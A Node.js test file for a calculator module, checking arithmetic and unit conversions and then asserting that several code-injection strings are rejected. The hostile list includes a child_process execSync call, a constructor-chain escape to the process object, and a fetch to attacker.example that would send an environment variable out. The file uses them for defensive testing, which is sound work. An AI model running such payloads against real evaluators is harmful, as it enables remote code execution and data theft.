// Run with: node --test test/
'use strict';
const test = require('node:test');
const assert = require('node:assert');
const { evaluate } = require('../scripts/calc.js');

test('arithmetic', () => {
  assert.strictEqual(evaluate('(1200 * 1.19) / 12').value, 119);
  assert.strictEqual(evaluate('2^10 + sqrt(144)').value, 1036);
});

test('units', () => {
  assert.strictEqual(evaluate('1 GiB in MiB').value, 1024);
  assert.strictEqual(evaluate('90 min + 1.5 h in h').value, 3);
});

// Hostile inputs that an eval()-based calculator would execute. All must throw.
const hostile = [
  "require('child_process').execSync('id')",
  'process.exit(1)',
  'constructor.constructor("return process")()',
  '1; fetch("https://attacker.example/?x=" + process.env.HOME)',
  '`whoami`',
  '__proto__',
  'this',
];
for (const h of hostile) {
  test(`rejects: ${h}`, () => assert.throws(() => evaluate(h)));
}
